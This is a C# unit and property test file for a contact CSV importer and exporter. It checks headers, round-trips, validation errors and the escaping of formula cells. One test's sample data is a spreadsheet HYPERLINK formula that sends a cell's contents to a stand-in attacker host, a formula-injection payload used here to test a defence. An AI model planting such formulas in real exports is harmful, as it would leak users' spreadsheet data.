using FsCheck;
using FsCheck.Fluent;
using Rapport.Formats.Csv;
using Rapport.Formats.Records;

namespace Rapport.Formats.Tests.Csv;

public class ContactCsvTest
{
    [Fact]
    public void Header_IsFixedAndDocumented()
    {
        var sw = new StringWriter();
        ContactCsv.Write([], sw);
        Assert.Equal(string.Join(",", ContactCsv.Header) + "\r\n", sw.ToString());
    }

    [Fact]
    public void WriterThenReader_GivesTheSameContacts()
    {
        var contact = Samples.FullContact;
        var sw = new StringWriter();
        ContactCsv.Write([contact], sw);
        var read = Assert.Single(ContactCsv.Read(TestStreams.Utf8(sw.ToString()), "out.csv"));
        Assert.Equal(contact, read with { SourceLine = 0 });
    }

    [Fact]
    public void AFileFromBeforeTheRapportFieldColumns_ReadsThemAsUnknown()
    {
        const string csv = "Display Name,Given Name,Family Name,Emails,Phones,Company,Title,Department,City,Region,Country,Birthday,Other Dates,Notes,LinkedIn URL,Profiles,Labels,Known Since,External Key\r\n" +
            "Ana Silva,Ana,Silva,ana@example.org,,,,,,,,,,,,,,,rapport:1\r\n";
        var c = Assert.Single(ContactCsv.Read(TestStreams.Utf8(csv), "old.csv"));
        Assert.Empty(c.Categories);
        Assert.Null(c.RelationshipKind);
        Assert.Null(c.Trust);
        Assert.Null(c.KeyPlayer);
        Assert.Null(c.WantToMeet);
        Assert.Equal((null, null, null, null, null, null, null), (c.Industry, c.Function, c.Seniority, c.Closeness, c.Tier, c.HowWeMet, c.IntroducedBy));
    }

    [Fact]
    public void TheRapportFields_HaveColumnsOfTheirOwn()
    {
        var sw = new StringWriter();
        ContactCsv.Write([Samples.FullContact], sw);
        var c = Assert.Single(ContactCsv.Read(TestStreams.Utf8(sw.ToString()), "out.csv"));
        Assert.Equal(("fintech", "engineering; platform", "vice-president", 0.8, "close"), (c.Industry, c.Function, c.Seniority, c.Closeness, c.Tier));
        Assert.Equal(("At PyCon 2019,\nover coffee", "urn:uuid:5678"), (c.HowWeMet, c.IntroducedBy));
        Assert.Equal(["Industry", "Function", "Seniority", "Closeness", "Tier", "How We Met", "Introduced By"], ContactCsv.Header.TakeLast(7));

        var typed = Assert.Single(ContactCsv.Read(TestStreams.Utf8("Display Name,Seniority,Tier,Closeness\nAna,Director,Inner,1\n"), "typed.csv"));
        Assert.Equal(("director", "inner", 1.0), (typed.Seniority, typed.Tier, typed.Closeness));
    }

    [Fact]
    public void AFileWithSomeOfTheColumns_ReadsTheMissingOnesAsEmpty()
    {
        const string csv = "Display Name,Emails\r\nAna Silva,ana@example.org\r\n";
        var c = Assert.Single(ContactCsv.Read(TestStreams.Utf8(csv), "few.csv"));
        Assert.Equal("Ana Silva", c.DisplayName);
        Assert.Equal([new ImportedEmail("ana@example.org")], c.Emails);
        Assert.Null(c.ExternalKey);
        Assert.Empty(c.Phones);

        var namesOnly = Assert.Single(ContactCsv.Read(TestStreams.Utf8("Company,Display Name\nAcme,Bo Li\n"), "names.csv"));
        Assert.Equal(("Bo Li", "Acme"), (namesOnly.DisplayName, namesOnly.Company));
    }

    [Fact]
    public void AFileWithoutTheNameColumn_IsRefused_SayingSo()
    {
        var e = Assert.Throws<ImportFormatException>(() => ContactCsv.Read(TestStreams.Utf8("Emails,Company\r\nana@example.org,Acme\r\n"), "noname.csv").ToList());
        Assert.Contains("a \"Display Name\" column", e.Message, StringComparison.Ordinal);
        Assert.Contains("got \"Emails,Company\"", e.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Trust", "7", "a trust from 0 to 3")]
    [InlineData("Kind", "friend", "acquaintance, alliance or transactional")]
    [InlineData("Key Player", "maybe", "yes, no or nothing")]
    [InlineData("Closeness", "1.5", "a closeness from 0 to 1")]
    [InlineData("Closeness", "close", "a closeness from 0 to 1")]
    [InlineData("Seniority", "boss", "student, entry, mid, senior, lead, manager, director, vice-president, executive or founder")]
    [InlineData("Tier", "best", "inner, close, active, network or acquaintance")]
    public void ABadRapportFieldValue_IsABadRow(string column, string value, string expected)
    {
        var header = ContactCsv.Header;
        var cells = header.Select(h => h switch { "Display Name" => "Ana", _ when h == column => value, _ => "" });
        var csv = string.Join(",", header) + "\r\n" + string.Join(",", cells) + "\r\n";
        var e = Assert.Throws<ImportFormatException>(() => ContactCsv.Read(TestStreams.Utf8(csv), "bad.csv").ToList());
        Assert.Contains($"expected {expected} in \"{column}\"", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void CellsASpreadsheetWouldRunAsFormulas_AreWrittenAsText_AndReadBackAsTheyWere()
    {
        var contact = new ImportedContact
        {
            DisplayName = "=HYPERLINK(\"http://evil.example/?x=\"&A1)", Company = "+cmd", Title = "-2+3", Notes = "@SUM(A1:A9)",
            Phones = [new ImportedPhone("+49 30 1234", "Mobile")], Birthday = new PartialDate(12, 1), City = "'=quoted", Country = "'Tis",
        };
        var sw = new StringWriter();
        ContactCsv.Write([contact], sw);

        using var reader = new CsvReader(new StringReader(sw.ToString()), "out.csv");
        reader.Read();
        var cells = reader.Read()!.Fields;
        Assert.All(cells, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", cells[0]);
        Assert.Equal("'+49 30 1234\tMobile", cells[ContactCsv.Header.ToList().IndexOf("Phones")]);
        Assert.Equal("'--12-01", cells[ContactCsv.Header.ToList().IndexOf("Birthday")]);

        var read = Assert.Single(ContactCsv.Read(TestStreams.Utf8(sw.ToString()), "out.csv"));
        Assert.Equal(contact, read with { SourceLine = 0 });
    }

    [Fact]
    public void NoCellOfAnyExport_StartsLikeAFormula() =>
        Check.QuickThrowOnFailure(Prop.ForAll(Gen.ListOf(Properties.Contact, 3).ToArbitrary(), contacts =>
        {
            var sw = new StringWriter();
            ContactCsv.Write(contacts, sw);
            using var reader = new CsvReader(new StringReader(sw.ToString()), "out.csv");
            while (reader.Read() is { } record)
            {
                foreach (var cell in record.Fields) Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell);
            }
            return true;
        }));

    [Fact]
    public void RoundTrip_HoldsForArbitraryUnicodeContacts() =>
        Properties.ContactRoundTrip(contacts =>
        {
            var sw = new StringWriter();
            ContactCsv.Write(contacts, sw);
            return ContactCsv.Read(TestStreams.Utf8(sw.ToString()), "out.csv").ToList();
        });
}
